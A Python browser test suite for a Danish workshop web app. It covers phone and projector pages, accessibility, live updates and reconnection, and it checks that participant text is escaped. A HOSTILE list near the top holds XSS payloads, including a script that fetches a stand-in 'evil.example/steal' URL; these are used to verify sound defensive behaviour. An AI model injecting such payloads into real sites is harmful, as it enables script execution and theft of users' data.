"""The workshop's pages in headless Chromium against a real server: phone, projector, hostile text."""

from __future__ import annotations

import pytest
from a11y import violations
from test_workshop_server import first_state
from workshop_server import Server, facilitator, participant

pytestmark = pytest.mark.browser

HOSTILE = ['<img src="http://evil.example/x.png" onerror="alert(1)">',
           "<script>fetch('http://evil.example/steal')</script>",
           '"><svg onload=alert(2)>', "javascript:alert(3)"]


@pytest.fixture
def server(tmp_path):
    with Server(tmp_path / "w.sqlite") as running:
        yield running


def watched(browser, server, **options):
    """A page that may talk to the workshop server only: everything else is blocked and recorded."""
    context = browser.new_context(**options)
    page = context.new_page()
    page.requests, page.errors, page.dialogs, page.console = [], [], [], []

    def route(route):
        if route.request.url.startswith(server.url + "/"):
            route.continue_()
        else:
            page.requests.append(route.request.url)
            route.abort()

    page.route("**/*", route)
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    page.on("console", lambda message: page.console.append(message.text))

    def dialog(d):
        page.dialogs.append(d.message)
        d.dismiss()

    page.on("dialog", dialog)
    return context, page


def join(page, server, name: str) -> None:
    page.goto(server.url + "/")
    assert violations(page) == []
    page.fill("#code", "nope")
    page.click("button[type=submit]")
    assert page.locator(".error").inner_text() == "Koden passer ikke. Se koden på skærmen, og prøv igen."
    page.fill("#code", server.code.lower())
    page.click("button[type=submit]")
    page.wait_for_url("**/name")
    assert violations(page) == []
    page.fill("#name", name)
    page.click("button[type=submit]")
    page.wait_for_url("**/p")


def test_a_participant_on_a_phone_adds_finds_and_edits_contacts(browser, server):
    other = participant(server, "Jens Berg")
    other.post("/api/entries", json={"name": "Musikskolen", "level": "netværk", "type": "kulturinstitution",
                                     "sector": "offentlig"})
    context, page = watched(browser, server, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    try:
        join(page, server, "Mette Kjær")
        page.wait_for_function("() => document.querySelectorAll('#actors option').length === 1")
        assert page.locator("#connection").inner_text() == "Forbundet."
        assert violations(page) == []
        # the circle explained, one line per level; the spaces, one line each
        assert page.locator("#level-cooperation-line").inner_text() == "I har en konkret aktivitet sammen."
        assert page.locator("#space-performative-line").inner_text() == "At skabe og udtrykke sig."
        # an actor already in the network: add yourself as a contact
        page.fill("#f-name", "musikskolen ")
        assert page.locator("#exists-text").inner_text().strip() == "»Musikskolen« findes allerede i netværket."
        page.click("#add-me")
        assert page.input_value("#f-name") == "Musikskolen"
        assert page.input_value("#f-sector") == "offentlig" and page.input_value("#f-type") == "kulturinstitution"
        page.check("#level-cooperation")
        page.check("#space-performative")
        page.click("#save")
        page.wait_for_function("() => document.getElementById('form-status').textContent === 'Gemt: Musikskolen'")
        assert page.locator("#mine li").count() == 1
        # refused values say what is wrong by the field
        page.fill("#f-name", "Åby Roklub")
        page.click("#save")
        page.wait_for_selector("#f-level-error:not(:empty)")
        assert page.locator("#f-level-error").inner_text() == "Vælg relationen: netværk, samarbejde eller partnerskab."
        assert violations(page) == []
        page.check("#level-partnership")
        page.click("#save")
        page.wait_for_function("() => document.querySelectorAll('#mine li').length === 2")
        # edit one's own entry
        page.click("#mine li:first-child button:has-text('Ret')")
        assert page.input_value("#f-name") == "Åby Roklub"
        page.fill("#f-name", "Åby Roklub og Kajak")
        page.click("#save")
        page.wait_for_function("() => document.getElementById('form-status').textContent === 'Gemt: Åby Roklub og Kajak'")
        names = sorted(e["name"] for e in page.evaluate("window.workshop.mine()"))
        assert names == ["Musikskolen", "Åby Roklub og Kajak"]
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        assert (page.requests, page.errors) == ([], [])
    finally:
        context.close()


def test_the_projector_shows_entries_live_with_call_outs_and_a_ticker(browser, server):
    context, page = watched(browser, server, viewport={"width": 1600, "height": 1000})
    try:
        page.goto(f"{server.url}/projector?key={server.key}")
        assert "key=" not in page.url
        page.wait_for_function("() => window.workshop && window.workshop.received.length > 0")
        mette = participant(server, "Mette Kjær")
        mette.post("/api/entries", json={"name": "Teatret Momentum", "level": "samarbejde",
                                         "spaces": ["Det performative rum"]})
        page.wait_for_function("() => document.querySelectorAll('#ticker li').length === 1")
        assert page.locator("#ticker li").inner_text() == "Mette Kjær tilføjede Teatret Momentum (samarbejde)"
        assert page.locator("#callouts li").first.inner_text() == "Det performative rum: første samarbejde!"
        assert page.locator("#count-performative-cooperation").inner_text() == "1"
        assert page.evaluate("window.workshop.nodes.get().map(n => n.name)").count("Teatret Momentum") == 1
        assert page.locator(".qr svg").count() == 1 and page.locator(".code").inner_text() == server.code
        assert violations(page) == []
        page.click("[data-layout=spaces]")
        page.wait_for_function("() => window.workshop.state().layout === 'spaces'")
        # the interest analysis: choose an actor, then a cell
        page.fill("#initiative", "Læselyst 2026")
        page.click("#initiative-form button")
        page.wait_for_selector("#pick button")
        page.click("#pick button:has-text('Teatret Momentum')")
        page.click(".cell[data-influence='5'][data-interest='4']")
        page.wait_for_function("() => document.querySelector(\".cell[data-influence='5'][data-interest='4'] .chip\")")
        page.wait_for_function("() => document.getElementById('place-status').textContent !== ''")
        assert page.locator("#place-status").inner_text() == "Teatret Momentum: indflydelse 5, interesse 4"
        assert page.locator(".cell[data-influence='5'][data-interest='4'] .chip").inner_text() == "Teatret Momentum"
        assert page.locator(".qn-manage-closely").inner_text() == "Ressourcepersoner"
        assert violations(page) == []
        assert (page.requests, page.errors) == ([], [])
    finally:
        context.close()


def test_hostile_text_typed_by_a_participant_stays_text_on_the_projector(browser, server):
    mallory = participant(server, '<img src=x onerror="alert(9)">Mallory')
    for index, name in enumerate(HOSTILE):
        response = mallory.post("/api/entries", json={"name": name, "level": "partnerskab", "type": name[:100],
                                                      "spaces": ["læring"]})
        assert response.status_code == 201, (index, response.text)
    context, page = watched(browser, server, viewport={"width": 1400, "height": 900})
    try:
        page.goto(f"{server.url}/projector?key={server.key}")
        page.wait_for_function("() => document.querySelectorAll('#ticker li').length === 4")
        page.fill("#initiative", "<b>Initiativ</b>")
        page.click("#initiative-form button")
        page.wait_for_selector("#pick button")
        page.wait_for_timeout(500)
        ticker = page.locator("#ticker").inner_text()
        for name in HOSTILE:
            assert name in ticker
        assert page.locator("#ticker img, #ticker script, #ticker svg, #pick img, #pick svg").count() == 0
        assert sorted(page.locator("#pick button").all_inner_texts()) == sorted(HOSTILE)
        assert page.evaluate("window.workshop.nodes.get().filter(n => n.name.includes('evil')).length") == 2
        assert page.dialogs == [] and page.requests == [] and page.errors == []
        assert not [line for line in page.console if "Content Security Policy" in line]
    finally:
        context.close()
    phone, page = watched(browser, server, viewport={"width": 390, "height": 844})
    try:
        page.goto(f"{server.url}/?code={server.code}")
        page.fill("#name", HOSTILE[1])
        page.click("button[type=submit]")
        page.wait_for_url("**/p")
        page.wait_for_function("() => document.querySelectorAll('#actors option').length === 4")
        assert page.locator(".who").inner_text() == f"Hej {HOSTILE[1]}"
        assert page.dialogs == [] and page.requests == [] and page.errors == []
    finally:
        phone.close()


def test_the_phone_page_shows_a_lost_connection_and_saves_once_when_it_is_back(browser, tmp_path):
    db = tmp_path / "w.sqlite"
    first = Server(db).start()
    context, page = watched(browser, first, viewport={"width": 390, "height": 844})
    try:
        join(page, first, "Mette")
        page.wait_for_function("() => document.getElementById('connection').textContent === 'Forbundet.'")
        first.kill()
        first.stop()
        page.wait_for_function(
            "() => document.getElementById('connection').textContent === 'Forbindelsen er afbrudt. Prøver igen …'")
        page.fill("#f-name", "Gemt under afbrydelsen")
        page.check("#level-network")
        page.click("#save")
        page.wait_for_function("() => document.getElementById('form-status').textContent.startsWith('Ikke gemt endnu')")
        second = Server(db, port=first.port).start()
        try:
            page.wait_for_function("() => document.getElementById('connection').textContent === 'Forbundet igen.'",
                                   timeout=20000)
            page.wait_for_function(
                "() => document.getElementById('form-status').textContent === 'Gemt: Gemt under afbrydelsen'",
                timeout=20000)
            page.wait_for_timeout(2000)   # further retries would come now: none may store a second copy
            state = first_state(facilitator(second))
            assert state["entries"] == 1
            assert [line["name"] for line in state["ticker"]] == ["Gemt under afbrydelsen"]
        finally:
            second.stop()
    finally:
        context.close()
